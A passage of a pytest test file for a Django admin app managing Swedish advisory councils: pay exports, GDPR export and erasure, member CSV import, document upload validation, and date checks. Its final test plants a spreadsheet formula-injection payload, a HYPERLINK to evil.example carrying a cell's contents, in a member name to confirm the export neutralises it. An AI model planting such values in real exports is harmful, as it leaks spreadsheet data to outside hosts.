    assert by_name["Anna Andersson"][4:] == ["500,00", "120,00", "800,00", "1420,00"]
    # David stood in for Bo: David is paid, Bo is not named.
    assert by_name["David Dal"][4:] == ["500,00", "50,00", "0,00", "550,00"]
    assert "Bo Berg" not in by_name
    assert by_name["Carl Ceder"][4:] == ["0,00", "0,00", "0,00", "0,00"]
    assert all(row[0] == council.name for row in rows)

    whole = client.post(
        url(Council, "changelist"), {"action": "export_pay", "_selected_action": [council.pk]}
    )
    assert len(pay_lines(whole)) == 4


# --- Members: personal data, import and export -------------------------------------------


def test_a_persons_data_is_exported_as_json(client, admin_user, council):
    client.force_login(admin_user)
    anna = council.members.get(display_name="Anna Andersson")

    response = client.post(
        url(Member, "changelist"), {"action": "export_personal_data", "_selected_action": [anna.pk]}
    )

    assert response["Content-Type"].startswith("application/json")
    data = json.loads(response.content)
    assert data["person"]["email"] == anna.user.email
    assert data["memberships"][0]["council"] == council.name


def test_personal_data_of_two_people_is_not_mixed_in_one_file(client, admin_user, council):
    client.force_login(admin_user)

    response = client.post(
        url(Member, "changelist"),
        {
            "action": "export_personal_data",
            "_selected_action": list(council.members.values_list("pk", flat=True)),
        },
    )

    assert response.status_code == 302
    assert any("one person" in text for text in texts(response))


def test_erasure_asks_first_then_keeps_the_minutes_without_the_name(client, admin_user, council):
    client.force_login(admin_user)
    anna = council.members.get(display_name="Anna Andersson")
    meeting = MeetingFactory(
        council=council,
        starts_at=timezone.now() - timedelta(days=3),
        minutes="Anna Andersson öppnade mötet. Beslut: rådet yttrar sig.",
    )
    action = {"action": "erase_personal_data", "_selected_action": [anna.pk]}

    asked = client.post(url(Member, "changelist"), action)
    assert asked.status_code == 200
    assert "Anna Andersson" in asked.content.decode()
    anna.refresh_from_db()
    assert anna.erased_at is None

    unconfirmed = client.post(url(Member, "changelist"), {**action, "apply": "1"})
    assert unconfirmed.status_code == 200
    done = client.post(url(Member, "changelist"), {**action, "apply": "1", "confirm": "on"})

    assert done.status_code == 302
    anna.refresh_from_db()
    meeting.refresh_from_db()
    assert anna.erased_at is not None
    assert "Anna Andersson" not in anna.display_name
    assert "Anna Andersson" not in meeting.minutes
    assert meeting.minutes.endswith("öppnade mötet. Beslut: rådet yttrar sig.")


def test_members_ending_within_90_days_can_be_filtered(client, admin_user, council):
    client.force_login(admin_user)

    response = client.get(url(Member, "changelist"), {"ends_soon": "yes"})

    assert [m.display_name for m in response.context["cl"].result_list] == ["David Dal"]


def export_members(client) -> list[dict]:
    model_admin = admin.site._registry[Member]
    formats = [fmt().get_title() for fmt in model_admin.get_export_formats()]
    resource = model_admin.resource_classes[0]
    data = {"format": str(formats.index("csv")), "resource": "0"}
    for name in resource().get_export_order():
        data[SelectableFieldsExportForm.create_boolean_field_name(resource, name)] = "on"
    response = client.post(url(Member, "export"), data)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def upload_members(client, text: str):
    model_admin = admin.site._registry[Member]
    formats = [fmt().get_title() for fmt in model_admin.get_import_formats()]
    return client.post(
        url(Member, "import"),
        {
            "resource": "0",
            "format": str(formats.index("csv")),
            "import_file": SimpleUploadedFile("members.csv", text.encode(), "text/csv"),
        },
    )


MEMBER_HEADER = "council,email,name,role,organisation,category,gender,term_start,term_end,consent"


def test_members_are_exported_with_readable_columns(client, admin_user, council):
    client.force_login(admin_user)

    rows = export_members(client)

    assert list(rows[0]) == MEMBER_HEADER.split(",")
    anna = next(row for row in rows if row["name"] == "Anna Andersson")
    assert anna["council"] == council.slug
    assert anna["email"] == council.members.get(display_name="Anna Andersson").user.email


def test_members_are_imported(client, admin_user, council, rsmh):
    client.force_login(admin_user)
    person = UserFactory(full_name="Eva Ek")
    start, end = TODAY(), TODAY() + timedelta(days=730)
    text = (
        f"{MEMBER_HEADER}\n"
        f"{council.slug},{person.email.upper()},,member,{rsmh.name},mental_health,woman,"
        f"{start},{end},1\n"
    )

    dry_run = upload_members(client, text)
    assert not council.members.filter(user=person).exists()
    form = dry_run.context["confirm_form"]
    assert form is not None
    done = client.post(url(Member, "process_import"), form.initial)

    assert done.status_code == 302
    member = council.members.get(user=person)
    assert member.display_name == "Eva Ek"
    assert member.organisation == rsmh
    assert member.publish_consent is True


@pytest.mark.parametrize(
    "bad_row",
    [
        "nowhere,{email},,member,,,,{start},{end},0",
        "{slug},nobody@example.se,,member,,,,{start},{end},0",
        "{slug},{email},,king,,,,{start},{end},0",
        "{slug},{email},,member,,,,{end},{start},0",
        "{slug},{anna},,member,,,,{start},{end},0",
    ],
    ids=["unknown council", "unknown person", "unknown role", "ends before start", "overlap"],
)
def test_a_bad_member_row_creates_nothing(client, admin_user, council, bad_row):
    client.force_login(admin_user)
    values = {
        "slug": council.slug,
        "email": UserFactory().email,
        "anna": council.members.get(display_name="Anna Andersson").user.email,
        "start": TODAY().isoformat(),
        "end": (TODAY() + timedelta(days=365)).isoformat(),
    }
    good = f"{council.slug},{UserFactory().email},,member,,,,{values['start']},{values['end']},0"
    before = Member.objects.count()

    response = upload_members(client, f"{MEMBER_HEADER}\n{good}\n{bad_row.format(**values)}\n")

    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
    assert Member.objects.count() == before


# --- Cases, documents, annual reports -----------------------------------------------------


def test_cases_are_rejected_with_a_reason(client, admin_user, council):
    client.force_login(admin_user)
    case = CaseFactory(council=council, number=1)
    action = {"action": "reject", "_selected_action": [case.pk]}

    asked = client.post(url(Case, "changelist"), action)
    empty = client.post(url(Case, "changelist"), {**action, "apply": "1", "reason": ""})
    case.refresh_from_db()
    assert asked.status_code == 200
    assert empty.status_code == 200
    assert case.status == Case.Status.SUBMITTED

    done = client.post(
        url(Case, "changelist"), {**action, "apply": "1", "reason": "Ett enskilt ärende."}
    )

    assert done.status_code == 302
    case.refresh_from_db()
    assert case.status == Case.Status.REJECTED
    assert case.rejection_reason == "Ett enskilt ärende."


def test_a_case_is_registered_with_the_next_number(client, admin_user, council):
    client.force_login(admin_user)
    CaseFactory(council=council, number=4)

    response = client.post(
        url(Case, "add"),
        {
            "council": council.pk,
            "title": "Trappor vid entrén",
            "why": "Rullstol kommer inte in.",
            "where": "Vårdcentralen.",
            "when": "Alltid.",
            "proposed_solution": "Ramp.",
        },
    )

    assert response.status_code == 302
    assert council.cases.get(title="Trappor vid entrén").number == 5


def docx_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def odt_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "accepted"),
    [
        ("handlingar.pdf", b"%PDF-1.7 ...", True),
        ("handlingar.docx", docx_bytes(), True),
        ("handlingar.odt", odt_bytes(), True),
        ("handlingar.pdf", b"MZ\x90\x00 not a pdf", False),
        ("handlingar.docx", odt_bytes(), False),
        ("handlingar.odt", b"PK\x03\x04 broken zip", False),
        ("stor.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024), False),
    ],
)
def test_documents_are_checked_by_content_and_size(
    client, admin_user, council, name, content, accepted
):
    client.force_login(admin_user)

    response = client.post(
        url(Document, "add"),
        {"council": council.pk, "title": "Handlingar", "file": SimpleUploadedFile(name, content)},
    )

    assert Document.objects.exists() is accepted
    if not accepted:
        assert response.status_code == 200
        html = response.content.decode()
        assert "10 MB" in html or "PDF, DOCX or ODT" in html


def test_an_annual_report_is_asked_for_in_admin(client, admin_user, council, monkeypatch):
    import councils.pdf

    monkeypatch.setattr(councils.pdf, "annual_report_pdf", lambda council, year: b"%PDF-1.7")
    client.force_login(admin_user)
    year = TODAY().year

    response = client.post(url(AnnualReport, "add"), {"council": council.pk, "year": year})
    future = client.post(url(AnnualReport, "add"), {"council": council.pk, "year": year + 1})

    assert response.status_code == 302
    assert AnnualReport.objects.get(council=council, year=year).status in {"queued", "ready"}
    assert future.status_code == 200
    assert not AnnualReport.objects.filter(year=year + 1).exists()


# --- Query counts ----------------------------------------------------------------------------


def build(councils: int, members: int, meetings: int) -> Council:
    owner = OrganisationFactory(kind=Organisation.Kind.MUNICIPALITY)
    created = Council.objects.bulk_create(
        Council(name=f"Råd {i:03}", slug=f"rad-{i}", owner=owner, level="municipal")
        for i in range(councils)
    )
    users = User.objects.bulk_create(
        User(email=f"q{i}-{j}@example.se", full_name=f"Person {i}-{j}", password="!")
        for i in range(councils)
        for j in range(members)
    )
    start, end = TODAY() - timedelta(days=30), TODAY() + timedelta(days=60)
    Member.objects.bulk_create(
        Member(
            council=created[i // members],
            user=user,
            display_name=user.full_name,
            gender=Gender.WOMAN if i % 2 else Gender.MAN,
            category=UserCategory.MENTAL_HEALTH,
            term_start=start,
            term_end=end,
        )
        for i, user in enumerate(users)
    )
    now = timezone.now()
    Meeting.objects.bulk_create(
        Meeting(council=council, starts_at=now + timedelta(days=k - meetings // 2), place="Sal")
        for council in created
        for k in range(meetings)
    )
    Case.objects.bulk_create(
        Case(
            council=council,
            number=k + 1,
            title="Sak",
            why="-",
            where="-",
            when="-",
            proposed_solution="-",
        )
        for council in created
        for k in range(3)
    )
    MandateVersion.objects.bulk_create(
        MandateVersion(council=c, number=1, text="M", adopted_on=start, revision_due=end)
        for c in created
    )
    Seat.objects.bulk_create(
        Seat(council=c, category=UserCategory.MENTAL_HEALTH, places=3) for c in created
    )
    return created[0]


@pytest.mark.parametrize("size", [(3, 3, 2), (50, 30, 20)], ids=["small", "large"])
def test_the_council_list_runs_a_fixed_number_of_queries(
    client, admin_user, django_assert_max_num_queries, size
):
    build(*size)
    client.force_login(admin_user)

    with django_assert_max_num_queries(8):
        response = client.get(url(Council, "changelist"))

    assert response.status_code == 200


@pytest.mark.parametrize("size", [(3, 3, 2), (50, 30, 20)], ids=["small", "large"])
def test_a_council_page_runs_a_fixed_number_of_queries(
    client, admin_user, django_assert_max_num_queries, size
):
    council = build(*size)
    client.force_login(admin_user)

    with django_assert_max_num_queries(22):
        response = client.get(url(Council, "change", council.pk))

    assert response.status_code == 200
    assert len(response.context["summary"]["warnings"]) == size[1]


# --- Dates in the wrong order are refused in plain words ------------------------------


def field_errors(response, formset_prefix: str | None = None) -> dict:
    """The errors of the admin's main form, or of the rows of one inline formset."""
    if formset_prefix is None:
        return response.context["adminform"].form.errors
    for inline in response.context["inline_admin_formsets"]:
        if inline.formset.prefix == formset_prefix:
            return {k: v for form in inline.formset.forms for k, v in form.errors.items()}
    raise AssertionError(formset_prefix)


def test_a_term_ending_before_it_starts_is_refused_on_the_members_page(client, admin_user, council):
    client.force_login(admin_user)
    anna = council.members.get(display_name="Anna Andersson")
    page = client.get(url(Member, "change", anna.pk))
    data = page_data(page, term_end=anna.term_start - timedelta(days=1))

    response = client.post(url(Member, "change", anna.pk), data)

    assert response.status_code == 200
    assert field_errors(response)["term_end"] == ["The term must end after it starts."]
    assert "member_term_ends_after_start" not in response.content.decode()
    assert Member.objects.get(pk=anna.pk).term_end == anna.term_end


@pytest.mark.parametrize("prefix", ["members", "members-2"])
def test_a_term_ending_before_it_starts_is_refused_on_the_council_page(
    client, admin_user, council, prefix
):
    client.force_login(admin_user)
    anna = council.members.get(display_name="Anna Andersson")
    backwards = {"term_start": TODAY(), "term_end": TODAY() - timedelta(days=1)}
    page = client.get(url(Council, "change", council.pk))
    rows = (
        {"change": {0: backwards}}
        if prefix == "members"
        else {"new": [{"user": UserFactory(), "role": Member.Role.MEMBER, **backwards}]}
    )
    before = list(council.members.values_list("pk", "term_start", "term_end"))

    response = client.post(url(Council, "change", council.pk), page_data(page, {prefix: rows}))

    assert response.status_code == 200
    assert field_errors(response, prefix)["term_end"] == ["The term must end after it starts."]
    assert "member_term_ends_after_start" not in response.content.decode()
    assert list(council.members.values_list("pk", "term_start", "term_end")) == before
    assert anna.pk in [pk for pk, *_dates in before]


def test_the_term_constraint_speaks_plainly_where_clean_is_bypassed(council):
    anna = council.members.get(display_name="Anna Andersson")
    anna.term_end = anna.term_start

    with pytest.raises(ValidationError) as refused:
        anna.validate_constraints()

    assert refused.value.messages == ["The term must end after it starts."]


def test_a_meeting_ending_before_it_starts_is_refused(client, admin_user, council):
    client.force_login(admin_user)
    day = (timezone.localtime() + timedelta(days=30)).date().isoformat()

    response = client.post(
        url(Meeting, "add"),
        {
            "council": council.pk,
            "starts_at_0": day,
            "starts_at_1": "15:00:00",
            "ends_at_0": day,
            "ends_at_1": "09:00:00",
            "place": "Stadshuset",
            "accessibility": "",
        },
    )

    assert response.status_code == 200
    assert field_errors(response)["ends_at"] == ["The meeting must end after it starts."]
    assert not Meeting.objects.filter(council=council).exists()


def test_a_meeting_ending_before_it_starts_is_refused_by_the_model_too(council):
    starts = timezone.now() + timedelta(days=30)
    meeting = Meeting(council=council, starts_at=starts, ends_at=starts, place="Stadshuset")

    with pytest.raises(ValidationError) as refused:
        meeting.full_clean()

    assert refused.value.message_dict == {"ends_at": ["The meeting must end after it starts."]}


def test_terms_of_reference_due_for_revision_before_adoption_are_refused_by_the_model(council):
    version = MandateVersion(
        council=council,
        number=9,
        text="Fel datum.",
        adopted_on=TODAY(),
        revision_due=TODAY() - timedelta(days=1),
    )

    with pytest.raises(ValidationError) as refused:
        version.full_clean()

    assert refused.value.message_dict == {
        "revision_due": ["The revision date must come after the adoption."]
    }


def test_the_pay_export_carries_a_formula_in_a_name_inert(client, admin_user, council):
    # Names come from members and self-registration: a formula must not run in the pay sheet.
    meeting = MeetingFactory(council=council, starts_at=timezone.now() - timedelta(days=1))
    anna = council.members.get(display_name="Anna Andersson")
    anna.display_name = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    anna.save(update_fields=["display_name"])
    services.attendance_record(
        meeting=meeting,
        rows=[{"member": anna, "status": "present", "travel_cost": Decimal("120")}],
    )
    client.force_login(admin_user)

    with translation.override("sv"):
        response = client.post(
            url(Meeting, "changelist"), {"action": "export_pay", "_selected_action": [meeting.pk]}
        )

    header, row = pay_lines(response)
    assert row[2] == "'" + anna.display_name
    assert row[4:] == ["500,00", "120,00", "0,00", "620,00"]
